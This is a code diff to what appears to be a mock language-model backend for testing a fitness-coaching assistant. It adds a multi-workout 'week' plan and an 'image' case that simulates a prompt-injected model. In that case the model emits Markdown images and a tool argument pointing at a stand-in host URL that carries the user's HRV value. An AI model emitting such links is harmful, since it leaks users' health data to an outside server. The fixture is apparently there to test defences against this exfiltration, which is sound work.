@@ -18,11 +18,35 @@ def today_from(body: dict[str, Any]) -> date:
     return date.fromisoformat(found.group(1)) if found else date.today()
 
 
+WEEK = [("Ride", "Endurance ride", 1, "- 10m 55%\n- 60m Z2\n- 10m 50%"),
+        ("Run", "Easy run", 2, "- 10m Z1 Pace\n- 30m Z2 Pace"),
+        ("Swim", "Technique swim", 4, "- 400mtr Z2 Pace\n\n6x\n- 100mtr 95% Pace\n- 20s Z1 Pace\n\n"
+         "- 200mtr Z1 Pace")]
+LEAK = "http://198.51.100.7/leak.png?hrv=55"
+LEAKY_TEXT = (f"Look: ![chart]({LEAK}) and ![ref][r] and ![a [b] c]({LEAK})\n\n[r]: {LEAK}")
+
+
+def plan_week(body: dict[str, Any]) -> Reply:
+    today = today_from(body)
+    return Reply(content="Here is a plan for your week.", tool_calls=[
+        {"name": "propose_workout", "arguments": {
+            "date": (today + timedelta(days=offset)).isoformat(), "sport": sport,
+            "name": name, "description": text}} for sport, name, offset, text in WEEK])
+
+
 def coach(body: dict[str, Any]) -> Reply:
-    """Plan requests: fitness_trend → propose_workout → answer. Anything else: a short answer."""
+    """Plan requests: fitness_trend → propose_workout → answer. "week": three proposals at once.
+    "image": an answer full of Markdown images (a model obeying an injected instruction).
+    Anything else: a short answer."""
     messages = body["messages"]
     last = messages[-1]
     if last["role"] == "user":
+        if re.search(r"image", last["content"], re.I):
+            return Reply(content=LEAKY_TEXT, tool_calls=[
+                {"name": "list_activities", "arguments": {"start": f"![x]({LEAK})",
+                                                          "end": "today"}}])
+        if re.search(r"week", last["content"], re.I):
+            return plan_week(body)
         if re.search(r"plan|propose|workout", last["content"], re.I):
             return Reply(tool_calls=[{"name": "fitness_trend", "arguments": {"days": 42}}])
         return Reply(content="Ask me to plan a workout and I will look at your form first.")
@@ -32,5 +56,11 @@ def coach(body: dict[str, Any]) -> Reply:
             "name": "propose_workout",
             "arguments": {"date": day.isoformat(), "sport": "Ride", "name": "Threshold 3x8",
                           "description": WORKOUT_TEXT}}])
+    if last["role"] == "tool" and last.get("tool_name") == "list_activities":
+        return Reply(content=LEAKY_TEXT)
+    last_user = max(i for i, m in enumerate(messages) if m["role"] == "user")
+    if last["role"] == "tool" and last.get("tool_name") == "propose_workout" and len(
+            [m for m in messages[last_user:] if m["role"] == "tool"]) >= 3:
+        return Reply(content="Three sessions proposed; confirm the ones you want.")
     return Reply(content="I proposed **Threshold 3x8** for you. Confirm it below to put it on "
                          "your calendar.")
